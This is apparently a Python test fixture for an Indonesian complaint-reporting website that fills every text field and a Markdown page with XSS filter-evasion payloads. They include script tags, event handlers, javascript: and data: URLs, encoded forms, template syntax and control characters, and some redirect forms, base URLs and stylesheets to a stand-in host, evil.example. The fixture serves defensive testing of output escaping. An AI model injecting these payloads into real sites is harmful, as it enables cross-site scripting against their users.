"""A hostile input built in code: XSS filter-evasion payloads in every text field.

After OWASP's XSS Filter Evasion Cheat Sheet: tags and event handlers,
``javascript:`` and ``data:`` URLs in several spellings, attribute and element
break-outs (``"><``, ``</title>``), template syntax, CSS expressions, escaped
and entity-encoded forms, bidi and control characters and very long words.
Every payload that could run calls ``alert()`` and sets ``window.__pwned``, so
a browser test sees any that does. None holds personal data: the site builds.
"""

from __future__ import annotations

import copy
from pathlib import Path

from fixtures import AGENCIES, complaint, event

RUN = "alert(1);window.__pwned=1"
LONG_WORD = "Panjang" + "sekali" * 900  # 5,407 characters without a break

PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style><script>{RUN}</script>",
    f'<a href="javascript:{RUN}">klik</a>',
    f"javascript:{RUN}",
    f'<a href="JaVaScRiPt:{RUN}">klik</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f'<div style="width: expression({RUN})">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7*7 }} {% for x in range(3) %}X{% endfor %} ${7*7} #{7*7} {{ config }}",
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=q><button>kirim</button></form>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"]]><script>{RUN}</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;b&#x3E;",
    f"<scr<script>ipt>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"--><script>{RUN}</script><!--",
    # Bidi overrides, isolates and marks, zero-width characters, NUL and other controls:
    # removed in the data stage, so every output shows the same, plain text.
    "Laporan \u202eterbalik\u202c \u2066isolasi\u2069 \u200fRTL\u200e \u200bnol \ufeffBOM",
    "NUL\x00 BEL\x07 ESC\x1b[31m merah\x1b[0m DEL\x7f",
]
# Characters no output file may hold (the data stage removes them).
INVISIBLE = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)] + [
    "\u200b",
    "\u200e",
    "\u200f",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\ufeff",
]


def case_id(i: int) -> str:
    return f"XSS-{i:02d}"


def hostile_tables() -> dict[str, list[dict]]:
    """Agencies and reports whose every text field holds a payload; all published."""
    agencies = copy.deepcopy(AGENCIES)
    agencies += [
        {
            "agency_id": "jahat-a",
            "name": PAYLOADS[0] + " " + PAYLOADS[6],
            "short_name": PAYLOADS[4][:80],
            "kind": "opd",
            "parent_id": "",
        },
        {  # one word as long as each field allows: it must wrap on a phone
            "agency_id": "panjang",
            "name": LONG_WORD[:200],
            "short_name": LONG_WORD[:80],
            "kind": "opd",
            "parent_id": "",
        },
        {
            "agency_id": "jahat-b",
            "name": PAYLOADS[20] + PAYLOADS[-2],
            "short_name": PAYLOADS[32][:80],
            "kind": "lainnya",
            "parent_id": "jahat-a",
        },
    ]
    complaints = [
        complaint(
            "PANJANG-1",
            title=LONG_WORD[:200],
            body=LONG_WORD,
            category=LONG_WORD[:100],
            kecamatan=LONG_WORD[:100],
            desa=LONG_WORD[:100],
            agency_id="panjang",
        )
    ]
    responses = [
        event("PANJANG-1", "2025-03-04T09:00:00", "instansi", "tanggapan", "panjang", LONG_WORD)
    ]
    for i, payload in enumerate(PAYLOADS):
        tid, agency = case_id(i), ("jahat-a", "jahat-b", "dinas-pupr")[i % 3]
        complaints.append(
            complaint(
                tid,
                title=payload[:200],
                body=f"{payload}\n\n{LONG_WORD}\n\n{payload}",
                category=payload[:100],
                kecamatan=payload[:100],
                desa=payload[:100],
                agency_id=agency,
                closed_at=f"2025-03-{10 + i % 15:02d}T15:00:00",
            )
        )
        responses += [
            event(tid, "2025-03-03T11:00:00", "admin", "disposisi", agency, payload),
            event(tid, "2025-03-05T09:30:00", "instansi", "tanggapan", agency, payload),
            event(tid, "2025-03-06T08:00:00", "pelapor", "komentar", "", LONG_WORD),
        ]
    return {"agencies": agencies, "complaints": complaints, "responses": responses}


HOSTILE_MARKDOWN = f"""Title: Uji <script>{RUN}</script> halaman
Slug: uji-markdown

Teks **tebal** dan [tautan biasa](/tentang/) dan <https://example.org/>.

<script>{RUN}</script>
<img src=x onerror="{RUN}">
[tautan jahat](javascript:{RUN})
<a href="javascript:{RUN}">a</a>
<a href="JaVaScRiPt:{RUN}">b</a>
<iframe src="https://evil.example/"></iframe>
<div onclick="{RUN}" style="position:fixed;width:5000px">div</div>
<svg onload="{RUN}"></svg>
![gambar](javascript:{RUN})
<form action="https://evil.example/"><input name="q"></form>
<object data="data:text/html,x"></object>
<style>body {{ display: none }}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">

{{{{ 7*7 }}}}
"""


def write_content(folder: Path) -> Path:
    """The project's pages plus the hostile Markdown page, as a content folder."""
    root = Path(__file__).resolve().parent.parent
    pages = folder / "pages"
    pages.mkdir(parents=True)
    for page in (root / "content" / "pages").glob("*.md"):
        (pages / page.name).write_text(page.read_text("utf-8"), "utf-8")
    (pages / "uji-markdown.md").write_text(HOSTILE_MARKDOWN, "utf-8")
    return folder
